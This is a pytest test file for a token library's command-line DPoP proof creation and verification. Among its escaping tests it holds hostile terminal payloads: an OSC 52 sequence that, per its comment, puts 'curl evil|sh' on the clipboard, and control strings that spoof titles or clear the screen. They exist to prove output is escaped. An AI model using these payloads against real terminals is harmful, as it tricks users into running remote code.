"""``tokenlib proof create`` / ``proof verify``: DPoP proofs (RFC 9449 §4)."""

from __future__ import annotations

import io
import sys
from pathlib import Path

import pytest

from tests.cli._helpers import HTU, NOW, create, run, run_json, secret_fragments
from tokenlib import _jws
from tokenlib.cli import EXIT_INVALID, EXIT_OK, EXIT_USAGE
from tokenlib.cli._output import escape
from tokenlib.jwk import jwk_thumbprint, load_private_key, public_jwk


def test_proof_roundtrip(key_files: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    proof = create(capsys, key_files, "--access-token", "tok", "--nonce", "n-1")
    code, record = run_json(
        capsys, "proof", "verify", proof, "--htm", "GET", "--htu", HTU + "?q=1",
        "--access-token", "tok", "--nonce", "n-1", "--now", str(NOW + 5),
    )  # fmt: skip
    assert code == EXIT_OK
    assert record["valid"] is True
    assert record["jkt"] == jwk_thumbprint(load_private_key(key_files["client"]))
    assert record["htu"] == HTU
    assert record["nonce"] == "n-1"
    for fragment in secret_fragments(key_files["client"]):
        assert fragment not in proof


def test_proof_create_json_shows_public_header_only(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    code, record = run_json(
        capsys, "proof", "create", "--key", str(key_files["client"]), "--htm", "POST", "--htu", HTU
    )
    assert code == EXIT_OK
    assert record["header"]["typ"] == "dpop+jwt"
    assert "d" not in record["header"]["jwk"]
    assert record["claims"]["htm"] == "POST"


@pytest.mark.parametrize(
    ("args", "error", "check"),
    [
        (("--htm", "POST", "--htu", HTU), "invalid_dpop_proof", "htm"),
        (("--htm", "GET", "--htu", "https://api.example/other"), "invalid_dpop_proof", "htu"),
        (
            ("--htm", "GET", "--htu", HTU, "--access-token", "other"),
            "invalid_dpop_proof",
            "ath",
        ),
        (("--htm", "GET", "--htu", HTU, "--nonce", "n-2"), "use_dpop_nonce", "nonce"),
        (
            ("--htm", "GET", "--htu", HTU, "--now", str(NOW + 120), "--policy", "fapi2"),
            "invalid_dpop_proof",
            "iat",
        ),
        (("--htm", "GET", "--htu", HTU, "--jkt", "A" * 43), "invalid_dpop_proof", "jkt"),
    ],
    ids=["htm", "htu", "ath", "nonce", "iat-fapi2", "jkt"],
)
def test_proof_verify_failures(
    key_files: dict[str, Path],
    capsys: pytest.CaptureFixture[str],
    args: tuple[str, ...],
    error: str,
    check: str,
) -> None:
    proof = create(capsys, key_files)
    now = () if "--now" in args else ("--now", str(NOW))
    code, record = run_json(capsys, "proof", "verify", proof, *now, *args)
    assert code == EXIT_INVALID
    assert record["valid"] is False
    assert record["error"] == error
    assert record["check"] == check


def test_proof_verify_explain_and_one_line_error(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    proof = create(capsys, key_files)
    monkeypatch.setattr(sys, "stdin", io.StringIO(proof))
    code, out, err = run(
        capsys, "proof", "verify", "-", "--htm", "GET", "--htu", "https://api.example/x",
        "--now", str(NOW), "--explain",
    )  # fmt: skip
    assert code == EXIT_INVALID
    assert len(err.strip().splitlines()) == 1
    assert err.startswith("tokenlib: invalid_dpop_proof: ")
    assert "htu" in out
    assert "https://api.example/x" in out


def test_proof_verify_without_explain_prints_nothing_on_stdout(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    proof = create(capsys, key_files)
    code, out, _ = run(
        capsys, "proof", "verify", proof, "--htm", "PUT", "--htu", HTU, "--now", str(NOW)
    )
    assert code == EXIT_INVALID
    assert out == ""


def test_unreadable_signing_key_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.pem"
    bad.write_text("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n")
    code, _, err = run(capsys, "proof", "create", "--key", str(bad), "--htm", "GET", "--htu", HTU)
    assert code == EXIT_USAGE
    assert "not a usable PEM private key" in err
    assert "AAAA" not in err


# -- issue 11: escaping, --htm case, malformed --htu -----------------------------------------

OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"  # writes "curl evil|sh" to the clipboard


def _raw_controls(text: str) -> list[str]:
    return [ch for ch in text if ch != "\n" and not ch.isprintable()]


def _signed_proof(key_path: Path, **claims: object) -> str:
    """A correctly signed DPoP proof with arbitrary claim values (what an attacker can send)."""
    key = load_private_key(key_path)
    header = {"typ": "dpop+jwt", "alg": "ES256", "jwk": dict(public_jwk(key))}
    payload = {"jti": "j-1", "htm": "GET", "htu": HTU, "iat": NOW, **claims}
    return _jws.sign(header, payload, key)


@pytest.mark.parametrize("jti", [OSC52, "\x1b]0;signature OK\x07", "\x9b2J", "a\u202eb\nc"])
def test_proof_verify_escapes_the_jti(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str], jti: str
) -> None:
    """Issue 11: `proof verify` printed the proof's jti raw."""
    proof = create(capsys, key_files, "--jti", jti)
    argv = ("proof", "verify", proof, "--htm", "GET", "--htu", HTU, "--now", str(NOW))
    code, out, err = run(capsys, *argv)
    assert code == EXIT_OK
    assert not _raw_controls(out)
    assert not _raw_controls(err)
    jti_lines = [line for line in out.splitlines() if line.strip().startswith("jti")]
    assert len(jti_lines) == 1  # an embedded newline cannot forge a second line
    code, record = run_json(capsys, *argv)
    assert record["jti"] == jti


@pytest.mark.parametrize("htm", [OSC52[:16], "\x1b]0;OK\x07", "\x9b2J", "G\u202eTEG"])
def test_proof_verify_explain_escapes_the_htm(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str], htm: str
) -> None:
    """Issue 11: `proof verify --explain` printed the proof's htm raw."""
    proof = _signed_proof(key_files["client"], htm=htm)
    argv = ("proof", "verify", proof, "--htm", "GET", "--htu", HTU, "--now", str(NOW))
    code, out, err = run(capsys, *argv, "--explain")
    assert code == EXIT_INVALID
    assert not _raw_controls(out)
    assert not _raw_controls(err)
    presented = next(line for line in out.splitlines() if "presented" in line)
    assert presented.split(" : ", 1)[1] == escape(htm)
    code, record = run_json(capsys, *argv)
    assert record["check"] == "htm"
    assert record["details"]["presented"] == htm


def test_proof_verify_explain_shows_iat_as_dates_and_units(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    proof = create(capsys, key_files)
    code, out, _ = run(
        capsys, "proof", "verify", proof, "--htm", "GET", "--htu", HTU,
        "--now", str(NOW + 3600), "--explain",
    )  # fmt: skip
    assert code == EXIT_INVALID
    assert "iat         : 2025-10-09T08:53:20Z (1760000000 epoch s)" in out
    assert "offset      : -3600 s (1 h 0 min)" in out


@pytest.mark.parametrize("command", ["create", "verify"])
@pytest.mark.parametrize("htm", ["get", "Post", "delete", "patch"])
def test_lowercase_standard_method_is_refused_with_a_suggestion(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str], command: str, htm: str
) -> None:
    """Issue 11: `--htm get` silently made a proof no server accepts (RFC 9110 §9.1 methods
    are case-sensitive; RFC 9449 §4.3 htm must match exactly)."""
    first = ("--key", str(key_files["client"])) if command == "create" else ("p.r.oof",)
    code, out, err = run(capsys, "proof", command, *first, "--htm", htm, "--htu", HTU)
    assert code == EXIT_USAGE
    assert out == ""
    assert f"did you mean --htm {htm.upper()}?" in err
    assert "case-sensitive" in err
    assert len(err.strip().splitlines()) == 1


@pytest.mark.parametrize("htm", ["GE T", "GET\r\nX", ""])
def test_htm_that_is_not_a_token_is_a_usage_error(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str], htm: str
) -> None:
    code, _, err = run(
        capsys, "proof", "create", "--key", str(key_files["client"]), "--htm", htm, "--htu", HTU
    )
    assert code == EXIT_USAGE
    assert "not an HTTP method token" in err
    assert not _raw_controls(err)


def test_extension_methods_keep_their_case(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """Only a lower-case *standard* method is a typo; an extension method is used as given."""
    proof = create(capsys, key_files, "--htm", "PROPFIND")
    code, record = run_json(
        capsys, "proof", "verify", proof, "--htm", "PROPFIND", "--htu", HTU, "--now", str(NOW)
    )
    assert code == EXIT_OK
    assert record["htm"] == "PROPFIND"


@pytest.mark.parametrize(
    "htu",
    [
        "not a url",
        "/orders",
        "ftp://api.example/orders",
        "https://",
        "https://user@api.example/orders",
        "https://api.example:99999/orders",
        "https://api.example/a\\b",
        "https://api.example/\x1b[2J",
    ],
)
@pytest.mark.parametrize("command", ["create", "verify"])
def test_malformed_htu_exits_2_on_create_and_verify(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str], command: str, htu: str
) -> None:
    """Issue 11: a malformed --htu exited 2 on create but 1 on verify."""
    proof = create(capsys, key_files)
    first = ("--key", str(key_files["client"])) if command == "create" else (proof,)
    code, out, err = run(capsys, "proof", command, *first, "--htm", "GET", "--htu", htu)
    assert code == EXIT_USAGE
    assert out == ""
    assert err.startswith("tokenlib: error: --htu ")
    assert "is not an absolute http(s) URI" in err
    assert not _raw_controls(err)
    assert len(err.strip().splitlines()) == 1
    code, out, _ = run(capsys, "proof", command, *first, "--htm", "GET", "--htu", htu, "--json")
    assert code == EXIT_USAGE
    assert out == ""


@pytest.mark.parametrize("command", ["create", "verify"])
def test_proof_now_must_be_finite(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str], command: str
) -> None:
    proof = create(capsys, key_files)
    first = ("--key", str(key_files["client"])) if command == "create" else (proof,)
    code, _, err = run(capsys, "proof", command, *first, "--htm", "GET", "--htu", HTU,
                       "--now", "nan")  # fmt: skip
    assert code == EXIT_USAGE
    assert "not a finite number" in err
